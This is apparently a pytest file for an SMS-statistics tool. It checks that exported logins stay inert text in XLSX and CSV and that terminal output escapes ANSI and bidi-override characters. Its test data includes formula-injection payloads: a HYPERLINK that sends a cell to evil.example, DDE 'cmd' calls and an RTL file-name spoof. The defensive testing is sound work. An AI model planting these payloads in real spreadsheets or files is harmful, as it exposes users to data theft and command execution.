"""Text a reseller's customer chose (a login) in files and terminals: never a live formula, never
an escape the terminal runs, and a terminal that cannot write a character still gets its line."""

from __future__ import annotations

import contextlib
import csv
import io
import zipfile
from pathlib import Path

import pandas as pd
import pytest

from smsstats_nb import QueryError
from smsstats_nb.core import printable, writable
from smsstats_nb.core._frames import make_frame
from smsstats_nb.output import export, read_export, text_table

EVIL = [
    '=HYPERLINK("http://evil.example/?"&A1,"click")',
    "=cmd|' /C calc'!A0",
    "+1+cmd|' /C calc'!A0",
    "-2+3",
    "@SUM(1,1)",
    "\t=1+1",
    "\r=1+1",
    "plain_login",
]


def _frame() -> pd.DataFrame:
    n = len(EVIL)
    return make_frame(EVIL, [1] * n, [1.5] * n, [0.0] * n, ["RUR"] * n)


def test_an_xlsx_holds_every_login_as_text_never_a_formula(tmp_path: Path) -> None:
    path = export(_frame(), tmp_path / "stats.xlsx")
    with zipfile.ZipFile(path) as book:
        sheet = book.read("xl/worksheets/sheet1.xml").decode()
    assert "<f>" not in sheet and "<f " not in sheet  # no formula element anywhere
    from openpyxl import load_workbook

    cells = [c.value for (c,) in load_workbook(path)["stats"].iter_rows(min_row=4, max_col=1)][: len(EVIL)]
    as_xml_keeps_them = [e.replace("\r", "\n") for e in EVIL]  # XML reads a CR as a line break
    assert cells == as_xml_keeps_them  # the logins as text, exactly
    assert read_export(path)["login"].tolist() == as_xml_keeps_them


@pytest.mark.parametrize("spreadsheet", [False, True])
def test_a_csv_escapes_what_a_spreadsheet_would_run(tmp_path: Path, spreadsheet: bool) -> None:
    path = export(_frame(), tmp_path / "stats.csv", spreadsheet=spreadsheet, decimal=",")
    with path.open(encoding="utf-8-sig", newline="") as f:
        rows = list(csv.reader(f, delimiter=";" if spreadsheet else ","))
    assert len(rows) == len(EVIL) + 1  # a CR inside a login breaks no row
    for (written, *_), original in zip(rows[1:], EVIL, strict=True):
        if original[0] in "=+-@\t\r":
            assert written == "'" + original  # OWASP: a leading quote, the rest intact
        else:
            assert written == original
    assert pd.read_csv(path, sep=";" if spreadsheet else ",", encoding="utf-8-sig")["sms"].tolist() == [1] * len(EVIL)


def test_a_frame_larger_than_an_excel_sheet_is_refused_before_writing(tmp_path: Path) -> None:
    rows = 1_048_576  # with the header, one row too many
    big = pd.DataFrame({"login": pd.array(["a"] * rows, dtype="string"), "sms": 0})
    with pytest.raises(QueryError, match=r"1,048,576 rows do not fit in an Excel sheet.*\.csv or \.parquet"):
        export(big, tmp_path / "big.xlsx")
    assert not (tmp_path / "big.xlsx").exists()


def test_a_terminal_shows_escapes_and_bidi_overrides_instead_of_running_them() -> None:
    logins = ["\x1b[2J\x1b[31mred", "invoice\u202egpj.exe", "line\nbreak", "демо_маркет", "naïve café"]
    n = len(logins)
    table = text_table(make_frame(logins, [1] * n, [1.0] * n, [0.0] * n, ["RUR"] * n))
    assert "\x1b" not in table and "\u202e" not in table and "line\nbreak" not in table
    assert "\\x1b[2J\\x1b[31mred" in table and "invoice\\u202egpj.exe" in table and "line\\x0abreak" in table
    assert "демо_маркет" in table and "naïve café" in table  # any script stays as it is
    assert printable("ok") == "ok"


def test_a_koi8_or_cp1251_terminal_gets_every_line(monkeypatch: pytest.MonkeyPatch) -> None:
    from smsstats_nb.cli._common import err, out

    for encoding in ("koi8-r", "cp1251", "ascii"):
        raw = io.BytesIO()
        stream = io.TextIOWrapper(raw, encoding=encoding)
        with contextlib.redirect_stdout(stream), contextlib.redirect_stderr(stream):
            out("итого 12 500,00 ₽ → «ок»")
            err("ждём… — 5 с")
        stream.flush()
        text = raw.getvalue().decode(encoding)
        assert "RUB" in text and "->" in text  # what the terminal cannot write, in words it can
        if encoding == "ascii":
            assert "..." in text and "?" in text  # and the rest as "?", never an exception
        else:
            assert "итого" in text and "ждём" in text  # Cyrillic is what these terminals write
    assert writable("₽", "utf-8") == "₽"
